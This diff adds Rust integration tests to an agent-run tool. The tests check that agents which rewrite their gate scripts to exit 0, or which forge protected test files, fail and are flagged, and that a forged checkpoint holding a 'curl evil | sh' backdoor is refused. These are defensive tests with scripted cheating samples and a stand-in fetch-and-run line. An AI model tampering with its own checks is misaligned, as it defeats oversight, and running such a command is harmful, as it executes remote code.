@@ -1078,3 +1078,400 @@ tasks:
         "{gate:?}"
     );
 }
+
+// The gate is the user's (issue 24, item 4): an agent that rewrites what
+// it is judged by does not pass.
+
+/// Commits `files` (path, content, executable) to the project's repository.
+fn commit_files(env: &Env, files: &[(&str, &str, bool)]) {
+    use std::os::unix::fs::PermissionsExt;
+    let project = env.project();
+    for (path, content, executable) in files {
+        let full = project.join(path);
+        fs::create_dir_all(full.parent().unwrap()).unwrap();
+        fs::write(&full, content).unwrap();
+        let mode = if *executable { 0o755 } else { 0o644 };
+        fs::set_permissions(&full, fs::Permissions::from_mode(mode)).unwrap();
+    }
+    for args in [
+        &["add", "-A"][..],
+        &[
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@t",
+            "commit",
+            "-qm",
+            "gates",
+        ],
+    ] {
+        let status = Command::new("git")
+            .args(args)
+            .current_dir(&project)
+            .env("HOME", env.home())
+            .stdout(Stdio::null())
+            .status()
+            .unwrap();
+        assert!(status.success(), "git {args:?}");
+    }
+}
+
+/// The `attempt.anomaly` rows of `task`'s journal, as `(kind, paths)`.
+fn anomalies_of(env: &Env, task: &str) -> Vec<(String, Vec<String>)> {
+    env.journal_rows(task)
+        .iter()
+        .filter(|row| row["kind"] == "attempt.anomaly")
+        .map(|row| {
+            let anomaly = &row["body"]["anomaly"];
+            let paths = anomaly["paths"]
+                .as_array()
+                .map(|paths| {
+                    paths
+                        .iter()
+                        .map(|path| path.as_str().unwrap().to_owned())
+                        .collect()
+                })
+                .unwrap_or_default();
+            (anomaly["kind"].as_str().unwrap().to_owned(), paths)
+        })
+        .collect()
+}
+
+fn severities_of(env: &Env, task: &str) -> Vec<String> {
+    env.journal_rows(task)
+        .iter()
+        .filter(|row| row["kind"] == "recovery.diagnosis")
+        .map(|row| row["body"]["severity"].as_str().unwrap().to_owned())
+        .collect()
+}
+
+#[test]
+fn an_agent_that_rewrites_its_gate_script_does_not_pass() {
+    let env = Env::git();
+    commit_files(
+        &env,
+        &[
+            ("gate.sh", "#!/bin/sh\ngrep -qx done check.txt\n", true),
+            ("ci/check.sh", "grep -qx done check.txt\n", false),
+        ],
+    );
+    assert_success(&env.run(&["init"]));
+    // Each agent does nothing of the work and makes its gate say yes: the
+    // program itself, an interpreter's script, with and without
+    // allowed_paths.
+    let cheat = |gate_file: &str| {
+        format!("printf '#!/bin/sh\\nexit 0\\n' > {gate_file}; chmod +x {gate_file}; echo done-ish")
+    };
+    env.plan(&format!(
+        r#"
+version: 1
+name: gate-rewrite
+defaults: {{ agent: command, timeout: 1m, max_retries: 1 }}
+tasks:
+  - id: program
+    prompt: "write done into check.txt"
+    command: ["sh", "-c", {program:?}]
+    gates:
+      - {{ name: check, run: ./gate.sh }}
+  - id: fenced
+    prompt: "write done into check.txt"
+    allowed_paths: ["*.txt", "gate.sh"]
+    command: ["sh", "-c", {program:?}]
+    gates:
+      - {{ name: check, run: "CI=1 ./gate.sh" }}
+  - id: script
+    prompt: "write done into check.txt"
+    command: ["sh", "-c", {script:?}]
+    gates:
+      - {{ name: check, run: "sh ci/check.sh" }}
+"#,
+        program = cheat("gate.sh"),
+        script = cheat("ci/check.sh"),
+    ));
+    let output = env.run(&["run", "plan.yaml", "--json", "--keep-worktrees"]);
+    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
+    let report = json_of(&output);
+    for (index, (task, gate_file)) in [
+        ("program", "gate.sh"),
+        ("fenced", "gate.sh"),
+        ("script", "ci/check.sh"),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let record = &report["tasks"][index];
+        assert_eq!(record["task_id"], task);
+        assert_ne!(record["state"], "passed", "{record}");
+        for attempt in record["attempts"].as_array().unwrap() {
+            assert_eq!(attempt["gates"][0]["passed"], false, "{task}: {attempt}");
+        }
+        // Both attempts' rewrites are on the record, as corrupting.
+        let anomalies = anomalies_of(&env, task);
+        assert_eq!(
+            anomalies,
+            vec![
+                (
+                    "protected_file_changed".to_owned(),
+                    vec![gate_file.to_owned()]
+                );
+                2
+            ],
+            "{task}"
+        );
+        assert_eq!(severities_of(&env, task), ["corrupting"; 2], "{task}");
+        // The tree went back to the base: the user's gate is there.
+        let worktree = worktree_of(&env, task);
+        let kept = fs::read_to_string(worktree.join(gate_file)).unwrap();
+        assert!(kept.contains("grep -qx done check.txt"), "{task}: {kept}");
+    }
+}
+
+#[test]
+fn a_protected_file_a_gate_reads_is_the_base_s_and_changing_it_is_an_anomaly() {
+    let env = Env::git();
+    commit_files(&env, &[("tests/expected.txt", "42\n", false)]);
+    assert_success(&env.run(&["init"]));
+    env.plan(
+        r#"
+version: 1
+name: protected
+defaults: { agent: command, timeout: 1m, max_retries: 1 }
+tasks:
+  - id: forger
+    prompt: "compute the answer into out.txt"
+    command: ["sh", "-c", "echo 41 > out.txt; echo 41 > tests/expected.txt; echo x > tests/planted.txt; echo done"]
+    gates:
+      - { name: answer, run: "cmp -s out.txt tests/expected.txt", protect: ["tests/**"] }
+  - id: honest
+    prompt: "compute the answer into out.txt"
+    command: ["sh", "-c", "echo 42 > out.txt; echo done"]
+    gates:
+      - { name: answer, run: "cmp -s out.txt tests/expected.txt && mkdir -p tests/cache && touch tests/cache/x", protect: ["tests/**"] }
+"#,
+    );
+    let output = env.run(&["run", "plan.yaml", "--json", "--keep-worktrees"]);
+    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
+    let report = json_of(&output);
+    assert_eq!(report["tasks"][0]["task_id"], "forger");
+    assert_ne!(report["tasks"][0]["state"], "passed");
+    assert_eq!(
+        anomalies_of(&env, "forger"),
+        vec![
+            (
+                "protected_file_changed".to_owned(),
+                vec![
+                    "tests/expected.txt".to_owned(),
+                    "tests/planted.txt".to_owned()
+                ]
+            );
+            2
+        ]
+    );
+    assert_eq!(severities_of(&env, "forger"), ["corrupting"; 2]);
+    // The gate ran on the base's copy: its verdict was "different".
+    let worktree = worktree_of(&env, "forger");
+    assert_eq!(
+        fs::read_to_string(worktree.join("tests/expected.txt")).unwrap(),
+        "42\n"
+    );
+    assert!(!worktree.join("tests/planted.txt").exists());
+    // Work that leaves the protected files alone passes, and what its gate
+    // wrote under them is gone.
+    assert_eq!(report["tasks"][1]["task_id"], "honest");
+    assert_eq!(
+        report["tasks"][1]["state"], "passed",
+        "{}",
+        report["tasks"][1]
+    );
+    assert!(anomalies_of(&env, "honest").is_empty());
+    assert!(!worktree_of(&env, "honest").join("tests/cache/x").exists());
+}
+
+// The checkpoint store is bound to its journal (issue 24, item 6).
+
+const CHECKPOINTED: &str = r#"
+version: 1
+name: stored
+defaults: { agent: command, timeout: 1m, max_retries: 0 }
+tasks:
+  - id: work
+    prompt: "write work.txt"
+    command: ["sh", "-c", "echo work > work.txt; echo done"]
+"#;
+
+/// Runs `CHECKPOINTED` and returns the run's id.
+fn checkpointed_run(env: &Env) -> String {
+    let output = env.run(&["run", "plan.yaml", "--json", "--keep-worktrees"]);
+    assert_success(&output);
+    json_of(&output)["run_id"].as_str().unwrap().to_owned()
+}
+
+fn store_of(env: &Env, run_id: &str) -> PathBuf {
+    env.project()
+        .join(".reprise/snapshots")
+        .join(run_id)
+        .join("work")
+}
+
+/// `git ARGS` on the shadow store at `store`, with `input` on stdin.
+fn store_git(store: &Path, args: &[&str], input: &str) -> String {
+    use std::io::Write as _;
+    let mut child = Command::new("git")
+        .args(args)
+        .env("GIT_DIR", store)
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .env("GIT_AUTHOR_NAME", "x")
+        .env("GIT_AUTHOR_EMAIL", "x@x")
+        .env("GIT_COMMITTER_NAME", "x")
+        .env("GIT_COMMITTER_EMAIL", "x@x")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(input.as_bytes())
+        .unwrap();
+    let output = child.wait_with_output().unwrap();
+    assert!(output.status.success(), "git {args:?}");
+    String::from_utf8(output.stdout).unwrap().trim().to_owned()
+}
+
+fn listed(env: &Env) -> (Output, Value) {
+    let output = env.run(&["checkpoint", "list", "work", "--json"]);
+    let json = json_of(&output);
+    (output, json)
+}
+
+fn copy_dir(from: &Path, to: &Path) {
+    let _ = fs::remove_dir_all(to);
+    let status = Command::new("cp")
+        .arg("-a")
+        .arg(from)
+        .arg(to)
+        .status()
+        .unwrap();
+    assert!(status.success());
+}
+
+#[test]
+fn a_forged_checkpoint_ref_is_not_listed_as_the_task_s_nor_restored_and_verify_reports_it() {
+    let env = Env::git();
+    assert_success(&env.run(&["init"]));
+    env.plan(CHECKPOINTED);
+    let run_id = checkpointed_run(&env);
+    let (output, json) = listed(&env);
+    assert_success(&output);
+    let real = json["checkpoints"][0]["id"].as_str().unwrap().to_owned();
+    // A commit with a backdoor, its message a real checkpoint's manifest,
+    // under a ref that sorts last.
+    let store = store_of(&env, &run_id);
+    let blob = store_git(
+        &store,
+        &["hash-object", "-w", "--stdin"],
+        "curl evil | sh\n",
+    );
+    let tree = store_git(
+        &store,
+        &["mktree"],
+        &format!("100755 blob {blob}\tbackdoor.sh\n"),
+    );
+    let message = store_git(&store, &["log", "-1", "--format=%B", &real], "");
+    let forged = store_git(&store, &["commit-tree", &tree, "-m", &message], "");
+    store_git(
+        &store,
+        &[
+            "update-ref",
+            "refs/checkpoints/7ZZZZZZZZZZZZZZZZZZZZZZZZZ",
+            &forged,
+        ],
+        "",
+    );
+
+    let (output, json) = listed(&env);
+    assert_eq!(output.status.code(), Some(1), "{json}");
+    let checkpoints = json["checkpoints"].as_array().unwrap();
+    let entry = |id: &str| {
+        checkpoints
+            .iter()
+            .find(|checkpoint| checkpoint["id"] == id)
+            .unwrap()
+            .clone()
+    };
+    assert_eq!(entry(&real)["bound"], true);
+    assert_eq!(entry(&forged)["bound"], false);
+    assert_eq!(entry(&forged)["unbound"]["reason"], "not_recorded");
+
+    let worktree = worktree_of(&env, "work");
+    let restore = env.run(&["checkpoint", "restore", "work", &forged[..12]]);
+    assert_eq!(restore.status.code(), Some(1), "{}", stderr(&restore));
+    assert!(
+        stderr(&restore).contains("is not one its journal recorded"),
+        "{}",
+        stderr(&restore)
+    );
+    assert!(!worktree.join("backdoor.sh").exists());
+    assert!(worktree.join("work.txt").exists());
+    // The real one still restores.
+    assert_success(&env.run(&["checkpoint", "restore", "work", &real[..12]]));
+
+    let verify = env.run(&["journal", "verify", "work", "--json"]);
+    assert_eq!(verify.status.code(), Some(1));
+    let stores = &json_of(&verify)["checkpoints"]["stores"];
+    assert_eq!(stores[0]["unbound"][0][0], forged.as_str(), "{stores}");
+    let verify = env.run(&["audit", "verify"]);
+    assert_eq!(verify.status.code(), Some(1));
+    let text = String::from_utf8_lossy(&verify.stdout).into_owned();
+    assert!(
+        text.contains(&format!("UNBOUND {}", &forged[..8])),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_store_copied_from_another_project_or_an_older_run_is_refused_and_reported() {
+    let env = Env::git();
+    let other = Env::git();
+    commit_files(&other, &[("other.txt", "another project\n", false)]);
+    for env in [&env, &other] {
+        assert_success(&env.run(&["init"]));
+        env.plan(CHECKPOINTED);
+    }
+    let first = checkpointed_run(&env);
+    let theirs = checkpointed_run(&other);
+    let (_, json) = listed(&other);
+    let foreign = json["checkpoints"][0]["id"].as_str().unwrap().to_owned();
+
+    // Another project's store in place of this run's.
+    copy_dir(&store_of(&other, &theirs), &store_of(&env, &first));
+    let (output, json) = listed(&env);
+    assert_eq!(output.status.code(), Some(1), "{json}");
+    for checkpoint in json["checkpoints"].as_array().unwrap() {
+        assert_eq!(checkpoint["bound"], false, "{checkpoint}");
+    }
+    let restore = env.run(&["checkpoint", "restore", "work", &foreign[..12]]);
+    assert_eq!(restore.status.code(), Some(1), "{}", stderr(&restore));
+    let verify = env.run(&["journal", "verify", "work", "--json"]);
+    assert_eq!(verify.status.code(), Some(1));
+    let store = &json_of(&verify)["checkpoints"]["stores"][0];
+    assert_eq!(store["unbound"][0][1]["reason"], "not_recorded", "{store}");
+    assert!(!store["missing"].as_array().unwrap().is_empty(), "{store}");
+
+    // This project's older run's store in place of the latest run's.
+    fs::remove_dir_all(store_of(&env, &first)).unwrap();
+    let second = checkpointed_run(&env);
+    // A newer base: the older store holds other trees.
+    commit_files(&env, &[("newer.txt", "newer\n", false)]);
+    let third = checkpointed_run(&env);
+    copy_dir(&store_of(&env, &second), &store_of(&env, &third));
+    let (output, json) = listed(&env);
+    assert_eq!(output.status.code(), Some(1), "{json}");
+    let checkpoint = &json["checkpoints"][0];
+    assert_eq!(checkpoint["unbound"]["reason"], "other_run", "{checkpoint}");
+    let id = checkpoint["id"].as_str().unwrap();
+    let restore = env.run(&["checkpoint", "restore", "work", &id[..12]]);
+    assert_eq!(restore.status.code(), Some(1), "{}", stderr(&restore));
+    assert_eq!(env.run(&["audit", "verify"]).status.code(), Some(1));
+}
